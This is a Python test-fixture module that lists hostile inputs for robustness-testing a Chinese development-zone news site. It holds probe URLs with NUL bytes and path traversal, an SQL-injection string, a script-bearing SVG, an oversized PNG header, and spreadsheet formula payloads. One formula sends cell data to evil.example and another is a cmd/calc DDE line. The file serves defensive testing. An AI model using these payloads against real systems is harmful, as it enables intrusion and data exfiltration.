"""What a hostile or careless visitor sends: probe URLs, bad photos and bad submissions.

Each entry says which answers count as handled. A 4xx is a fine answer to hostile input; a 5xx
never is. `hint` names the item of issue 9 whose fix the entry checks, so that a failure in the
load script's report points at the known defect it matches.
"""

import io
import struct
import zlib
from dataclasses import dataclass, field
from urllib.parse import quote

from PIL import Image

HANDLED = frozenset({400, 403, 404})
LONG_QUERY = ("开发区光伏项目建设营商环境" * 25)[:300]
FTS_QUERIES = [
    '"光伏',
    "光伏 OR",
    "NEAR(光伏 项目)",
    "光伏*",
    "title:光伏",
    "^光伏",
    "光伏 AND NOT -",
    "!:*&|()",
    "'; DROP TABLE articles_article; --",
    "\\",
    "%_%",
]
SEARCH_QUERIES = ["光伏", "朔州经开区", "营商环境", "项目建设", "招商引资", "新能源", "两会 光伏"]


@dataclass(frozen=True)
class Probe:
    label: str
    path: str
    role: str = "anonymous"  # or "correspondent", "editor"
    method: str = "GET"
    allowed: frozenset = HANDLED
    hint: str = ""


def probes(*, article_id: int, zone_id: int) -> list[Probe]:
    nul = "issue 9 item 14: NUL on PostgreSQL"
    return [
        Probe("NUL 检索词", "/search/?q=%00", hint=nul),
        Probe("NUL 检索词（夹在中文里）", "/search/?q=" + quote("光伏") + "%00", hint=nul),
        Probe("NUL 证书号", "/certificates/%00/", hint=nul),
        Probe("NUL 证书查询", "/certificates/?number=%00", hint=nul),
        Probe("NUL 路径", "/articles/%00/"),
        Probe("NUL 期日期", "/issues/%00/"),
        Probe("NUL 筛选", "/articles/?issue=%00&zone=%00", hint=nul),
        Probe("NUL 检索筛选", "/search/?q=" + quote("光伏") + "&issue=%00&zone=%00", hint=nul),
        Probe("300 字检索词", "/search/?q=" + quote(LONG_QUERY)),
        *[Probe(f"检索语法 {q!r}", "/search/?q=" + quote(q)) for q in FTS_QUERIES],
        Probe("检索页码 99999", "/search/?q=" + quote("光伏") + "&page=99999"),
        Probe("检索页码 -1", "/search/?q=" + quote("光伏") + "&page=-1"),
        Probe("未知文章", "/articles/999999999/"),
        Probe("未知开发区", "/zones/999999999/"),
        Probe("未知作者", "/contributors/999999999/"),
        Probe("不存在的期", "/issues/1900-01-01/"),
        Probe("非法日期", "/issues/2024-02-30/"),
        Probe("年份越界", "/issues/99999/"),
        Probe("未知筛选值", "/articles/?issue=abc&zone=999999999&page=abc"),
        Probe("开发区订阅 未知", "/zones/999999999/feed/"),
        Probe("路径穿越", "/media/../../kfq_site/settings.py"),
        Probe("文章页带 NUL 参数", f"/articles/{article_id}/?x=%00"),
        Probe("开发区页带长参数", f"/zones/{zone_id}/?page=" + "9" * 300),
        Probe("未登录投稿", "/submit/", allowed=frozenset({302})),
        Probe("未知稿件", "/my/999999999/", role="correspondent"),
        Probe("未知稿件修改", "/my/999999999/edit/", role="correspondent"),
        Probe(
            "撤回用 GET", "/my/999999999/withdraw/", role="correspondent", allowed=HANDLED | {405}
        ),
        Probe("无 CSRF 投稿", "/submit/", role="correspondent", method="POST"),
        Probe(
            "后台 autocomplete NUL",
            "/admin/autocomplete/?app_label=articles&model_name=article&field_name=zone&term=%00",
            role="editor",
            hint=nul,
        ),
        Probe("后台检索 NUL", "/admin/articles/article/?q=%00", role="editor", hint=nul),
        Probe("后台 未知稿件", "/admin/articles/article/999999999/change/", role="editor"),
        Probe(
            "后台 未知稿件操作",
            "/admin/articles/article/999999999/move/",
            role="editor",
            method="POST",
        ),
    ]


# --- photos ------------------------------------------------------------------------------


def good_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (320, 240), (30, 120, 200)).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def huge_png_header() -> bytes:
    """A valid PNG signature and header claiming 100,000 × 100,000 pixels, and no pixel data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b"")


def bad_photos() -> list[tuple[str, str, str, bytes]]:
    """(label, filename, content type, bytes) of photos that must be refused, never a 500."""
    jpeg = good_jpeg()
    return [
        ("不是图片", "photo.jpg", "image/jpeg", "这不是图片，是一段文字。".encode() * 20),
        ("截断的 JPEG", "cut.jpg", "image/jpeg", jpeg[: len(jpeg) // 3]),
        ("巨大尺寸的 PNG 头", "huge.png", "image/png", huge_png_header()),
        ("空文件", "empty.jpg", "image/jpeg", b""),
        ("带脚本的 SVG", "x.svg", "image/svg+xml", b"<svg><script>alert(1)</script></svg>"),
    ]


# --- submissions -------------------------------------------------------------------------


@dataclass(frozen=True)
class BadSubmission:
    """Field values that replace a good submission's; `photo` attaches a bad photo instead."""

    label: str
    fields: dict = field(default_factory=dict)
    photo_index: int | None = None
    hint: str = ""
    newline_title: bool = False


def bad_submissions() -> list[BadSubmission]:
    long_name = "欧阳" + "长名字" * 11  # 35 characters, over the 30 a name may have
    return [
        BadSubmission(
            "标题含换行",
            {"title": "开发区新闻\n第二行"},
            hint="issue 9 item 6: control characters in titles",
            newline_title=True,
        ),
        BadSubmission(
            "引题含控制字符",
            {"kicker": "引题\x07\x1b[31m"},
            hint="issue 9 item 6: control characters in titles",
        ),
        BadSubmission(
            "公式开头的标题",
            {
                "title": '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")',
                "subtitle": "+cmd|' /C calc'!A0",
                "kicker": "@SUM(1+1)",
            },
        ),
        BadSubmission("标题含 NUL", {"title": "开发区\x00新闻"}),
        BadSubmission("标题 300 字", {"title": "长" * 300}),
        BadSubmission(
            "作者姓名超过 30 字",
            {"extra_authors": long_name},
            hint="issue 9 item 14: long extra author name on PostgreSQL",
        ),
        BadSubmission("未知开发区 id", {"zone": "999999999"}),
        BadSubmission("未知征稿启事 id", {"call": "999999999"}),
        BadSubmission("未知主题 id", {"theme": "999999999"}),
        BadSubmission("未知合作者 id", {"co_authors": ["999999999"]}),
        BadSubmission("非法开发区值", {"zone": "abc"}),
        BadSubmission("不在列表的体裁", {"genre": "社论"}),
        BadSubmission("正文为空", {"body": ""}),
        *[
            BadSubmission(f"坏图片：{label}", {}, photo_index=index)
            for index, (label, *_rest) in enumerate(bad_photos())
        ],
    ]


def hostile_label(bad: BadSubmission) -> str:
    return f"投稿：{bad.label}"


def hostile_labels() -> set[str]:
    """Every kind of hostile request a run should send at least once."""
    labels = {probe.label for probe in probes(article_id=1, zone_id=1)}
    return labels | {hostile_label(bad) for bad in bad_submissions()}
